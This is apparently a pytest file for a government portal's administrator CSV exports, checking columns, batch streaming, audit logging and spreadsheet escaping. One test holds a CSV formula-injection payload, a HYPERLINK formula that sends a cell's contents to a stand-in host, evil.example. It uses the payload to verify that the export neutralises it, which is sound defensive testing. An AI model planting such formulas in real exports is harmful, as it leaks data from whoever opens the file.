"""CSV exports: the columns an administrator needs, safe to open in a spreadsheet, streamed in batches."""
from __future__ import annotations

import csv
import io

from sqlalchemy import insert, select

from portal.models import AuditEvent, Opportunity
from portal.reports.exports import BATCH, spreadsheet_safe
from tests.portal.reports.support import RANGE, csv_rows, utc
from tests.support import factories


def _admin_export(web, signed_in, kind: str, **extra):
    signed_in(site_admin=True)
    return web.get(f"/reports/export/{kind}.csv", query_string=dict(RANGE, **extra))


def test_opportunities_export_has_states_agencies_owner_and_skills(session, web, signed_in, make_user):
    owner = make_user(name="Olive Owner", email="olive@dta.gov.au")
    opportunity = factories.report_opportunity(session, owner, title="Accessibility audit", clearance="baseline",
                                               commitment_amount=8, positions=2, created_at=utc(2026, 4, 1, 3))
    opportunity.skills = factories.skills(session, "Usability testing") + factories.skills(session, "Accessibility")
    factories.report_application(session, opportunity, make_user(), state="confirmed")
    factories.report_application(session, opportunity, make_user())
    session.commit()
    [row] = csv_rows(_admin_export(web, signed_in, "opportunities"))
    assert row["Title"] == "Accessibility audit"
    assert (row["State"], row["Host agency"]) == ("Open", "Digital Transformation Agency")
    assert (row["Owner"], row["Owner e-mail"]) == ("Olive Owner", "olive@dta.gov.au")
    assert row["Skills"] == "Accessibility; Usability testing"
    assert (row["Security clearance"], row["Positions"], row["Commitment amount"]) == ("Baseline", "2", "8")
    assert (row["Commitment unit"], row["Created"]) == ("hours a week", "2026-04-01 14:00")
    assert (row["Applications"], row["Confirmed participants"]) == ("2", "1")


def test_applications_export_names_the_applicant_and_home_manager(session, web, signed_in, make_user):
    applicant = make_user(name="Pat Participant", supervisor=("Hana Manager", "hana@ato.gov.au"),
                          agency_abbreviation="ATO")
    opportunity = factories.report_opportunity(session, make_user(), title="Data sprint")
    factories.report_application(session, opportunity, applicant, state="manager_approval",
                                 created_at=utc(2026, 6, 1))
    session.commit()
    [row] = csv_rows(_admin_export(web, signed_in, "applications"))
    assert (row["Applicant"], row["Home agency"], row["State"]) == (
        "Pat Participant", "Australian Taxation Office", "Waiting for home manager")
    assert (row["Home manager"], row["Home manager e-mail"], row["Opportunity"]) == (
        "Hana Manager", "hana@ato.gov.au", "Data sprint")


def test_people_export_shows_roles_and_activity(session, web, signed_in, make_user):
    person = make_user(name="Robin Admin", admin_of=[factories.agency(session, "DTA")])
    factories.report_opportunity(session, person)
    session.commit()
    rows = {row["Name"]: row for row in csv_rows(_admin_export(web, signed_in, "people"))}
    robin = rows["Robin Admin"]
    assert (robin["Agency admin of"], robin["Opportunities owned"], robin["Verified"]) == (
        "Digital Transformation Agency", "1", "Yes")


def test_hostile_cells_are_prefixed_so_spreadsheets_do_not_run_them(session, web, signed_in, make_user):
    hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
    owner = make_user(name="@SUM(1+1)")
    factories.report_opportunity(session, owner, title=hostile, team="+61 2 6000 0000", created_at=utc(2026, 3, 3))
    session.commit()
    [row] = csv_rows(_admin_export(web, signed_in, "opportunities"))
    assert row["Title"] == "'" + hostile
    assert (row["Owner"], row["Team"]) == ("'@SUM(1+1)", "'+61 2 6000 0000")


def test_tab_and_carriage_return_starts_are_escaped_too():
    assert [spreadsheet_safe(v) for v in ("\tcmd", "\rcmd", "-2+3", "plain", "a=b")] == [
        "'\tcmd", "'\rcmd", "'-2+3", "plain", "a=b"]


def test_export_is_an_attachment_named_with_the_date(web, signed_in):
    response = _admin_export(web, signed_in, "people")
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and 'filename="oneaps-people-20' in disposition


def test_unknown_export_is_not_found(web, signed_in):
    assert _admin_export(web, signed_in, "salaries").status_code == 404


def test_large_export_streams_batch_by_batch(session, app, web, signed_in, make_user):
    owner = make_user()
    total = BATCH * 2 + 500
    session.execute(insert(Opportunity), [
        {"title": f"Bulk {n}", "state": "open", "creator_id": owner.id, "owner_id": owner.id,
         "host_agency_id": owner.agency_id, "created_at": utc(2026, 8, 1), "updated_at": utc(2026, 8, 1)}
        for n in range(total)])
    session.commit()
    signed_in(site_admin=True)
    response = web.client.get("/reports/export/opportunities.csv", query_string=RANGE, buffered=False)
    assert response.is_streamed
    chunks = [chunk.decode() for chunk in response.iter_encoded()]
    response.close()
    assert len(chunks) == 1 + 3  # the heading, then one chunk per batch of rows
    rows = list(csv.reader(io.StringIO("".join(chunks)[1:])))
    assert len(rows) == total + 1 and rows[-1][1] == f"Bulk {total - 1}"


def test_each_opportunity_row_lists_only_its_own_skills(session, web, signed_in, make_user):
    owner = make_user()
    for title, skill in (("First", "Accessibility"), ("Second", "Service design")):
        opportunity = factories.report_opportunity(session, owner, title=title, created_at=utc(2026, 3, 3))
        opportunity.skills = factories.skills(session, skill)
    session.commit()
    rows = csv_rows(_admin_export(web, signed_in, "opportunities"))
    assert [(row["Title"], row["Skills"]) for row in rows] == [("First", "Accessibility"),
                                                              ("Second", "Service design")]


def test_each_application_row_lists_only_its_applicants_skills(session, web, signed_in, make_user):
    opportunity = factories.report_opportunity(session, make_user(), created_at=utc(2026, 3, 3))
    for name, skill in (("Ann Applicant", "Accessibility"), ("Ben Applicant", "Service design")):
        applicant = make_user(name=name)
        applicant.skills = factories.skills(session, skill)
        factories.report_application(session, opportunity, applicant, created_at=utc(2026, 3, 4))
    session.commit()
    rows = csv_rows(_admin_export(web, signed_in, "applications"))
    assert [(row["Applicant"], row["Applicant skills"]) for row in rows] == [
        ("Ann Applicant", "Accessibility"), ("Ben Applicant", "Service design")]


def test_each_person_row_counts_only_their_own_roles_and_opportunities(session, web, signed_in, make_user):
    owner = make_user(name="Olive Owner", admin_of=[factories.agency(session, "ATO")])
    coowner = make_user(name="Cory Coowner")
    make_user(name="Nadia Nobody")
    opportunity = factories.report_opportunity(session, owner)
    opportunity.coowners = [coowner]
    factories.report_opportunity(session, owner)
    session.commit()
    rows = {row["Name"]: row for row in csv_rows(_admin_export(web, signed_in, "people"))}
    assert [(rows[n]["Opportunities owned"], rows[n]["Agency admin of"]) for n in
            ("Olive Owner", "Cory Coowner", "Nadia Nobody")] == [
        ("2", "Australian Taxation Office"), ("1", ""), ("0", "")]


def test_every_export_is_recorded_in_the_audit_log(session, web, signed_in):
    admin = signed_in(admin_of=[factories.agency(session, "DTA")])
    web.get("/reports/export/people.csv", query_string=RANGE)
    event = session.scalar(select(AuditEvent).where(AuditEvent.record_type == "report_export"))
    assert (event.action, event.actor_id) == ("people", admin.id)
    assert event.data == {"from": "2026-01-01", "to": "2026-12-31",
                          "agencies": str(factories.agency(session, "DTA").id)}
